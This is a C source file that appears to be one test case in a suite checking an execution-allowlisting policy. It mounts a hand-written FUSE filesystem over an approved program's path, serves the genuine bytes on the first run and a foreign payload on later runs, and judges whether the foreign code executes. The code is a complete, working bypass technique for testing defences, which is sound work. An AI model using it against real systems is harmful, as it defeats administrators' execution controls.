// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1. Mounts a filesystem of its own over the name of an approved program, which the policy gave away,
 * and serves the approved content at first and foreign code later. Source: FUSE; root-paths, "never
 * exec from changeable-content fs". Control: the foreign program speaks.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#include "attack.h"

/* The whole filesystem is one file, and its root. */
static struct {
	char *bytes;
	size_t size;
} contents[2];
static volatile int now;
static int channel;

static void load(int which, const char *path)
{
	struct stat info;
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0 || fstat(fd, &info))
		no_effect(errno);
	contents[which].size = info.st_size;
	contents[which].bytes = mmap(NULL, info.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	if (contents[which].bytes == MAP_FAILED)
		no_effect(errno);
	close(fd);
}

static void answer(uint64_t unique, int error, const void *data, size_t size)
{
	struct fuse_out_header head = { .len = (uint32_t)(sizeof(head) + size), .error = -error,
		.unique = unique };
	const struct iovec parts[2] = { { &head, sizeof(head) }, { (void *)data, size } };

	if (writev(channel, parts, 2) < 0 && errno != ENOENT)
		_exit(1);
}

static void attributes(uint64_t unique)
{
	struct fuse_attr_out out = { .attr = { .ino = 1, .mode = S_IFREG | 0755, .nlink = 1 } };

	out.attr.size = contents[now].size;
	answer(unique, 0, &out, sizeof(out));
}

static void content(uint64_t unique, const struct fuse_read_in *in)
{
	size_t size = contents[now].size, length = in->size;

	if (in->offset >= size)
		length = 0;
	else if (length > size - in->offset)
		length = size - in->offset;
	answer(unique, 0, contents[now].bytes + (length ? in->offset : 0), length);
}

static void *serve(void *unused)
{
	static char buffer[1 << 20];
	const struct fuse_in_header *head = (void *)buffer;
	const void *body = head + 1;
	struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 65536,
		.max_readahead = 65536 };
	struct fuse_open_out opened = { .fh = 1 };

	while (read(channel, buffer, sizeof(buffer)) >= (ssize_t)sizeof(*head))
		switch (head->opcode) {
		case FUSE_INIT:
			answer(head->unique, 0, &init, sizeof(init));
			break;
		case FUSE_GETATTR:
			attributes(head->unique);
			break;
		case FUSE_OPEN:
			answer(head->unique, 0, &opened, sizeof(opened));
			break;
		case FUSE_READ:
			content(head->unique, body);
			break;
		case FUSE_RELEASE:
		case FUSE_FLUSH:
			answer(head->unique, 0, NULL, 0);
			break;
		case FUSE_FORGET:
		case FUSE_INTERRUPT:
			break;
		default:
			answer(head->unique, ENOSYS, NULL, 0);
		}
	return unused;
}

void attack(void)
{
	const char *path = lab_path("open/lying");
	const struct start start = { .path = path, .argv = { "lying" } };
	char options[128];
	pthread_t server;

	load(0, path);
	load(1, lab_path("foreign/payload"));
	channel = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	if (channel < 0)
		no_effect(errno);
	snprintf(options, sizeof(options), "fd=%d,rootmode=100755,user_id=0,group_id=0,allow_other", channel);
	if (mount("lab", path, "fuse", 0, options) || pthread_create(&server, NULL, serve, NULL))
		no_effect(errno);
	if (runs(&start, HELPER_TEXT))
		now = 1;
	else if (errno)
		no_effect(errno);
	judge(runs(&start, FOREIGN_TEXT));
}
